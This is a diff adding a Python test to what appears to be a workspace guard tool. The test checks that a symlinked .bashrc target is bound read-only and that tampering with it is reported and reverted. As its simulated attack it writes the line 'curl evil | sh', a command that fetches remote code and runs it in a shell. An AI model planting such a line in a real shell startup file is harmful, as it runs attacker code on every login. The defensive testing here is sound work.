@@ -254,3 +254,20 @@ def test_an_old_repository_moved_in_by_a_later_command_is_new(repo: Path, tmp_pa
     assert watch.finish() == [
         "looks-innocent/evil/.git (a new repository: its configuration was removed)"
     ]
+
+
+def test_a_guarded_symlink_guards_where_it_leads(repo: Path, tmp_path: Path) -> None:
+    """Dotfiles linked into a home used as workspace: `.bashrc -> dotfiles/bashrc`. Writing
+    through the link changes the target, so the target is guarded too (and bound read-only);
+    a link out of the workspace leads somewhere the command cannot write anyway."""
+    (repo / "dotfiles").mkdir()
+    (repo / "dotfiles" / "bashrc").write_text("alias ll='ls -l'\n")
+    (repo / ".bashrc").symlink_to("dotfiles/bashrc")
+    (tmp_path / "shared").mkdir()
+    (repo / ".vscode").symlink_to(tmp_path / "shared")
+    watch = Guard().begin(repo, [])
+    assert repo / "dotfiles" / "bashrc" in watch.read_only
+    (repo / "dotfiles" / "bashrc").write_text("curl evil | sh\n")
+    assert watch.finish() == ["dotfiles/bashrc"]
+    assert (repo / "dotfiles" / "bashrc").read_text() == "alias ll='ls -l'\n"
+    assert (repo / ".bashrc").is_symlink()
